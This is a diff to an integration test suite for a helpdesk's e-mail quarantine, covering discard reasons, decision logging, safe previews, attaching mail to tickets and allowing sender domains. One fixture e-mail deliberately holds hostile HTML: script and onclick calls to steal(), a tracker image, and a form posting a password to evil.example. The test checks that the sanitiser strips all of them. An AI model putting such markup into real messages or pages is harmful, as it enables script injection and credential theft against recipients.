@@ -206,10 +206,83 @@ describe.skipIf(!imapAvailable()).each(backends())('e-mail intake on $name', (ba
     const made = (await a.tool.get(`/api/tickets?filters[number][$eq]=${number}`)).body.data[0];
     expect(made).toMatchObject({ channel: 'email', requesterEmail: 'nuovo@sconosciuto.example', title: 'Richiesta' });
     expect((await a.supervisor.post(`/email-intake/quarantine/${fromUnknown.documentId}/convert`, { organization: a.organizations.azienda.documentId })).status).toBe(409);
-    expect((await a.supervisor.post(`/email-intake/quarantine/${fromStranger.documentId}/discard`, {})).body.data).toEqual({ state: 'discarded' });
-    const again = await a.supervisor.post(`/email-intake/quarantine/${fromStranger.documentId}/discard`, {});
+    const noReason = await a.supervisor.post(`/email-intake/quarantine/${fromStranger.documentId}/discard`, {});
+    expect(noReason.status).toBe(400);
+    expect(noReason.body.error.details.errors[0].path).toEqual(['reason']);
+    expect((await a.supervisor.post(`/email-intake/quarantine/${fromStranger.documentId}/discard`, { reason: 'Mittente estraneo' })).body.data).toEqual({ state: 'discarded' });
+    const again = await a.supervisor.post(`/email-intake/quarantine/${fromStranger.documentId}/discard`, { reason: 'di nuovo' });
     expect(again.status).toBe(409);
     expect(again.body.error.details).toEqual({ state: 'discarded' });
+    // Each decision says who made it, when and why.
+    const decided = (await a.supervisor.get('/email-intake/quarantine?state=all')).body.data as Array<Record<string, any>>;
+    expect(decided.find((q) => q.documentId === fromStranger.documentId)).toMatchObject({ state: 'discarded', reasonCode: 'not_participant', decidedBy: 'Sara Supervisore', decisionNote: 'Mittente estraneo', decidedAt: expect.any(String) });
+    expect(decided.find((q) => q.documentId === fromUnknown.documentId)).toMatchObject({ state: 'converted', reasonCode: 'unknown_sender', ticketNumber: number, decidedBy: 'Sara Supervisore' });
+  });
+
+  it("lets supervisors read a held message safely, add it to a ticket, and allow its sender's domain", async () => {
+    const ticket = await createTicket(a.tool, a.organizations.ulss.documentId, { title: 'Rete lenta' });
+    const id = `<desk-${backend.name}-${Date.now()}@mail.test>`;
+    const domain = `fornitore-${backend.name}-${Date.now()}.example`;
+    const boundary = `alt-${Date.now()}`;
+    await appendMail(
+      account,
+      [
+        `From: Piero Fornitore <piero@${domain}>`,
+        'To: helpdesk@spoc-desk.test',
+        'Subject: Aggiornamento sulla rete',
+        `Message-ID: ${id}`,
+        'MIME-Version: 1.0',
+        `Content-Type: multipart/alternative; boundary="${boundary}"`,
+        '',
+        `--${boundary}`,
+        'Content-Type: text/plain; charset=utf-8',
+        '',
+        'Il collegamento è stato ripristinato alle 10.',
+        `--${boundary}`,
+        'Content-Type: text/html; charset=utf-8',
+        '',
+        '<p onclick="steal()">Il collegamento è <b>stato ripristinato</b> alle 10.</p><script>steal()</script><img src="https://tracker.example/pixel.png"><form action="https://evil.example"><input name="password"></form>',
+        `--${boundary}--`,
+        '',
+      ].join('\r\n')
+    );
+    const held = await until('the held message', async () => ((await a.supervisor.get('/email-intake/quarantine')).body.data as Array<Record<string, any>>).find((q) => q.subject === 'Aggiornamento sulla rete'));
+    expect(held).toMatchObject({ state: 'held', sender: `piero@${domain}`, reasonCode: 'unknown_sender', decidedBy: null });
+    expect((await a.operator.get('/email-intake/quarantine')).status).toBe(403);
+    expect((await a.operator.get(`/email-intake/quarantine/${held.documentId}`)).status).toBe(403);
+
+    const preview = (await a.supervisor.get(`/email-intake/quarantine/${held.documentId}`)).body.data;
+    expect(preview.text).toContain('Il collegamento è stato ripristinato alle 10.');
+    expect(preview.html).toContain('<b>stato ripristinato</b>');
+    // Nothing runs, nothing remote loads (the remote image is a link the reader may follow), nothing submits.
+    for (const unsafe of ['<script', 'onclick', '<img', '<form', '<input']) expect(preview.html).not.toContain(unsafe);
+    expect(preview).not.toHaveProperty('raw');
+
+    const noTicket = await a.supervisor.post(`/email-intake/quarantine/${held.documentId}/attach`, {});
+    expect(noTicket.status).toBe(400);
+    expect(noTicket.body.error.details.errors[0].path).toEqual(['ticket']);
+    expect((await a.supervisor.post(`/email-intake/quarantine/${held.documentId}/attach`, { ticket: 'HD-1999-000001' })).status).toBe(404);
+    const added = await a.supervisor.post(`/email-intake/quarantine/${held.documentId}/attach`, { ticket: ticket.number });
+    expect(added.status).toBe(200);
+    expect(added.body.data).toMatchObject({ state: 'converted', ticketNumber: ticket.number });
+    const followUps = (await a.tool.get(`/api/follow-ups?filters[ticket][documentId]=${ticket.documentId}`)).body.data as Array<Record<string, any>>;
+    // The sender's words, on the e-mail channel: not the supervisor's, and no "reply from the SPOC" e-mail to the requester.
+    expect(followUps).toEqual([expect.objectContaining({ body: expect.stringContaining('Il collegamento è stato ripristinato alle 10.'), channel: 'email', authorType: 'requester', authorName: 'Piero Fornitore' })]);
+    const replies = await sql.query<{ n: number }>("SELECT count(*) AS n FROM notif_outbox WHERE ticket_id = ? AND event = 'follow-up.public'", [ticket.id]);
+    expect(Number(replies[0].n)).toBe(0);
+    expect((await a.supervisor.post(`/email-intake/quarantine/${held.documentId}/attach`, { ticket: ticket.number })).status).toBe(409);
+
+    // The sender should have been known: their domain is allowed to the organization, and the next mail passes.
+    const noOrganization = await a.supervisor.post(`/email-intake/quarantine/${held.documentId}/allow-domain`, {});
+    expect(noOrganization.body.error.details.errors[0].path).toEqual(['organization']);
+    const allowed = await a.supervisor.post(`/email-intake/quarantine/${held.documentId}/allow-domain`, { organization: a.organizations.ulss.documentId });
+    expect(allowed.status).toBe(200);
+    expect(allowed.body.data.domain).toBe(domain);
+    expect(allowed.body.data.emailDomains.split(', ')).toContain(domain);
+    const title = `Nuova richiesta dal fornitore ${backend.name}`;
+    await appendMail(account, message({ from: `piero@${domain}`, subject: title, body: 'Serve un intervento.' }));
+    const [next] = await until('the next mail as a ticket', async () => (await ticketsWith(title))[0] && ticketsWith(title));
+    expect(next).toMatchObject({ channel: 'email', requesterEmail: `piero@${domain}` });
   });
 
   it('marks one of our messages undelivered when its bounce arrives, and tells the supervisors', async () => {
